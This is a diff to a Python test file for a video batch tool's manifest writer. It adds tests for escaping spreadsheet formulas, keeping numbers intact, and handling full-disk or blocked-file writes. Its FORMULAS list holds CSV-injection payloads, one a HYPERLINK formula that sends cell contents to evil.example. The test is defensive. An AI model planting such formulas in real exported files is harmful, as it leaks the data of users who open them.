@@ -2,13 +2,23 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import os
 import subprocess
 import sys
 import time
 from pathlib import Path
 
-from vidkit.batch.jobs import JobStore, OutputRecord, sweep_leftovers
+from tests.helpers.disk import PAGE, fill, small_disk
+from vidkit.batch.jobs import (
+    JobStore,
+    ManifestRow,
+    OutputRecord,
+    read_manifest,
+    write_manifest,
+)
+from vidkit.files import sweep_leftovers, write_csv
 
 
 def _dead_pid() -> int:
@@ -45,3 +55,60 @@ def test_a_record_is_trusted_only_while_its_file_is_unchanged(tmp_path: Path) ->
     assert store.finished("k1") is None
     video.unlink()
     assert store.finished("k1") is None
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx"]
+
+
+def test_manifest_csv_cells_cannot_be_formulas(tmp_path: Path) -> None:
+    rows = [
+        ManifestRow(line=2 + i, clip=f, template="t", platform="9x16", status="failed", error=f)
+        for i, f in enumerate(FORMULAS)
+    ]
+    write_manifest(tmp_path, rows, {})
+    table = read_csv(tmp_path / "manifest.csv")
+    assert [r["clip"] for r in table] == ["'" + f for f in FORMULAS]
+    assert [r["error"] for r in table] == ["'" + f for f in FORMULAS]
+    assert [r["line"] for r in table] == [str(2 + i) for i in range(len(FORMULAS))]
+    assert [r["clip"] for r in read_manifest(tmp_path)] == FORMULAS  # the JSON keeps them as given
+
+
+def test_csv_numbers_stay_numbers_and_plain_text_is_untouched() -> None:
+    buf = io.StringIO(newline="")
+    write_csv(buf, ["n", "x", "text"], [[-3, -0.5, "Ann-Marie"], [7, 1.5, "-1"]])
+    assert buf.getvalue() == "n,x,text\r\n-3,-0.5,Ann-Marie\r\n7,1.5,'-1\r\n"
+
+
+def _rows(n: int) -> list[ManifestRow]:
+    return [
+        ManifestRow(line=i, clip=f"clips/{i}.mp4", template="t", platform="9x16", status="ok")
+        for i in range(2, n + 2)
+    ]
+
+
+def test_a_full_disk_loses_only_the_manifest_file_that_did_not_fit(tmp_path: Path) -> None:
+    rows = _rows(200)
+    sizes = {}
+    assert write_manifest(tmp_path / "measure", rows, {}) == ()
+    for name in ("manifest.csv", "manifest.json"):
+        sizes[name] = (tmp_path / "measure" / name).stat().st_size
+    assert sizes["manifest.json"] > sizes["manifest.csv"] + 8 * PAGE
+    with small_disk(tmp_path / "disk", 1 << 20) as disk:
+        fill(disk, free=sizes["manifest.csv"] + 2 * PAGE)
+        problems = write_manifest(disk, rows, {})
+        assert len(problems) == 1 and "\n" not in problems[0]
+        assert "manifest.json: not written: No space left on device" in problems[0]
+        assert len(read_csv(disk / "manifest.csv")) == 200
+        assert sorted(p.name for p in disk.iterdir()) == ["filler", "manifest.csv"]
+
+
+def test_an_unwritable_csv_still_leaves_the_json(tmp_path: Path) -> None:
+    (tmp_path / "manifest.csv").mkdir()  # something in the way, as a mistaken copy leaves
+    problems = write_manifest(tmp_path, _rows(3), {})
+    assert len(problems) == 1 and "manifest.csv: not written" in problems[0]
+    assert [r["line"] for r in read_manifest(tmp_path)] == [2, 3, 4]
+
+
+def read_csv(path: Path) -> list[dict[str, str]]:
+    with open(path, encoding="utf-8-sig", newline="") as f:
+        return list(csv.DictReader(f))
